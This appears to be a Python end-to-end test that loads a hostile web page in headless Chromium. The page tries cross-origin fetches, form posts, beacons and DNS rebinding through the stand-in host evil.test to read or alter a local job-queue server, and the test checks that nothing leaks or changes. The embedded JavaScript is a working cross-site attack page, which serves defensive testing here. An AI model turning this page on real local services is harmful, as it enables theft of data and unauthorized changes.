#!/usr/bin/python3
"""A real browser on a hostile page: nothing is read from the server, and nothing changed.

The page is served from an origin of its own and tries what pages can: fetch, fetch without CORS,
forms, images, scripts, event streams, a preflight. It does so with the server's address, and once
more after its own name was rebound to the server (the browser is told to resolve evil.test to
127.0.0.1, and the page is loaded by that name from the port it attacks beside). It reports what it
could read to its own origin. Jobs and queues of the server are compared before and after.

Usage: hostile_page_test.py <program>
"""

import http.server
import json
import pathlib
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "e2e"))

import harness  # noqa: E402  pylint: disable=wrong-import-position

BROWSER = shutil.which("chromium")
PATIENCE = 90
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--disable-dev-shm-usage", "--host-resolver-rules=MAP evil.test 127.0.0.1"]

PAGE = """<!doctype html><meta charset="utf-8"><title>hostile</title>
<iframe name="sink" style="display:none"></iframe>
<script>
const target = "%(target)s", job = "%(job)s";
const read = {}, tried = [];
const note = (name, what) => { tried.push(name); if (what !== null) read[name] = what; };
const soon = (promise, ms) => Promise.race([promise, new Promise(r => setTimeout(r, ms))]);
const text = (name, path, options) => soon(fetch(target + path, options)
  .then(answer => answer.text()).then(body => note(name, body || null))
  .catch(() => note(name, null)), 5000);
const body = JSON.stringify({type: "evil", queue: "q"});
const form = (path, type, value) => {
  const made = document.createElement("form");
  made.method = "POST"; made.action = target + path; made.enctype = type; made.target = "sink";
  const field = document.createElement("input");
  field.name = value; field.value = "x"; made.append(field);
  document.body.append(made); made.submit();
  tried.push("form " + type + path);
  return new Promise(done => setTimeout(done, 400));
};
const load = (tag, path) => soon(new Promise(done => {
  const made = document.createElement(tag);
  made.onload = () => { note(tag, tag === "img" ? "loaded" : null); done(); };
  made.onerror = () => { note(tag, null); done(); };
  made.src = target + path;
  document.body.append(made);
}), 3000);
const events = () => new Promise(done => {
  const source = new EventSource(target + "/v1/events");
  source.onmessage = source.onopen = () => { note("events", "opened"); source.close(); done(); };
  source.onerror = () => { note("events", null); source.close(); done(); };
  setTimeout(done, 3000);
});
const attack = async () => {
  await text("jobs", "/v1/jobs?include=payload");
  await text("stats", "/v1/stats");
  await text("page", "/");
  await text("simple", "/v1/jobs", {method: "POST", body: body});
  await text("untyped", "/v1/jobs", {method: "POST", body: new Blob([body])});
  await text("typed", "/v1/jobs", {method: "POST", body: body,
                                   headers: {"Content-Type": "application/json"}});
  await text("cancel", "/v1/jobs/" + job + "/cancel", {method: "POST"});
  await text("pause", "/v1/queues/q/pause", {method: "POST"});
  await text("delete", "/v1/jobs/" + job, {method: "DELETE"});
  await text("put", "/v1/queues/made", {method: "PUT", body: "{}"});
  for (const path of ["/v1/jobs", "/v1/jobs/" + job + "/cancel", "/v1/queues/q/pause"]) {
    await soon(fetch(target + path, {method: "POST", mode: "no-cors", body: body})
      .then(() => tried.push("no-cors " + path)).catch(() => tried.push("no-cors " + path)), 3000);
    await soon(fetch(target + path, {method: "POST", mode: "no-cors", body: new Blob([body])})
      .then(() => tried.push("blob " + path)).catch(() => tried.push("blob " + path)), 3000);
    navigator.sendBeacon(target + path, body);
    navigator.sendBeacon(target + path);
    await form(path, "text/plain", body);
    await form(path, "application/x-www-form-urlencoded", "a");
    await form(path, "multipart/form-data", "a");
  }
  await load("img", "/v1/jobs");
  await load("script", "/v1/jobs");
  await load("iframe", "/");
  await events();
  await fetch("/report", {method: "POST", body: JSON.stringify({read, tried})});
};
addEventListener("load", attack);
</script>
"""


class HostileSite(http.server.ThreadingHTTPServer):
    """Serves the page and takes its report."""

    def __init__(self, target, job):
        self.page = (PAGE % {"target": target, "job": job}).encode()
        self.report = None
        self.reported = threading.Event()
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                self.answer(site.page if self.path == "/" else b"")

            def do_POST(self):  # noqa: N802
                site.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.answer(b"")
                site.reported.set()

            def answer(self, body):
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def port(self):
        return self.server_address[1]


class HostilePage(harness.OnDisk):
    def visit(self, url):
        """A browser of its own on the page; end() ends it."""
        profile = tempfile.TemporaryDirectory(ignore_cleanup_errors=True)
        self.addCleanup(profile.cleanup)
        browser = subprocess.Popen(
            [BROWSER, *FLAGS, f"--user-data-dir={profile.name}", "--remote-debugging-port=0", url],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        return browser

    @staticmethod
    def end(browser):
        """With its children, which are a session of their own."""
        try:
            subprocess.os.killpg(browser.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        browser.wait()

    def state(self):
        jobs = self.ok("GET", "/v1/jobs?include=payload,result&limit=1000")
        queues = self.ok("GET", "/v1/queues")
        return jobs, queues

    def attack(self, page_host, target_host):
        self.assertIsNotNone(BROWSER, "chromium is missing: ./dev setup test")
        made = self.submit(queue="q", payload="secret of the owner")
        before = self.state()
        site = HostileSite(f"http://{target_host}:{self.server.port}", made["id"])
        self.addCleanup(site.server_close)
        self.addCleanup(site.shutdown)
        browser = self.visit(f"http://{page_host}:{site.port}/")
        try:
            self.assertTrue(site.reported.wait(PATIENCE), "the page did not come to its end")
        finally:
            self.end(browser)
        self.assertGreaterEqual(len(site.report["tried"]), 25, site.report)
        self.assertEqual(site.report["read"], {}, "a page of a stranger read this")
        self.assertEqual(self.state(), before)

    def test_another_origin_on_the_same_machine(self):
        """Same site, other port: the hardest case, since browsers take both for one site."""
        self.attack("127.0.0.1", "127.0.0.1")

    def test_another_site(self):
        self.attack("evil.test", "127.0.0.1")

    def test_a_name_that_was_rebound_to_the_server(self):
        """To the browser both are evil.test, and it is the server that must know better."""
        self.attack("evil.test", "evil.test")

    def test_a_rebound_page_of_the_same_origin(self):
        """The name and port of the page are those of the server itself: every call is same-origin,
        which no rule of the browser can tell. Its first request is already refused."""
        made = self.submit(queue="q", payload="secret of the owner")
        before = self.state()
        url = f"http://evil.test:{self.server.port}"
        for path in ("/", "/v1/jobs?include=payload", f"/v1/jobs/{made['id']}"):
            self.assertNotIn("secret", self.dump(url + path), path)
            self.assertIn("forbidden", self.dump(url + path), path)
        self.assertEqual(self.state(), before)

    def dump(self, url, *options):
        profile = tempfile.TemporaryDirectory(ignore_cleanup_errors=True)
        self.addCleanup(profile.cleanup)
        browser = subprocess.Popen(
            [BROWSER, *FLAGS, f"--user-data-dir={profile.name}", *options, "--dump-dom", url],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, start_new_session=True, text=True)
        try:
            return browser.communicate(timeout=PATIENCE)[0]
        finally:
            self.end(browser)

    def test_the_own_page_works(self):
        """What is refused to strangers must not be refused to the server's own page."""
        self.submit(queue="a-queue-to-see")
        url = f"http://127.0.0.1:{self.server.port}/"
        # The page asks for the counts after it was loaded.
        self.assertIn("a-queue-to-see", self.dump(url, "--virtual-time-budget=5000"))


if __name__ == "__main__":
    unittest.main()
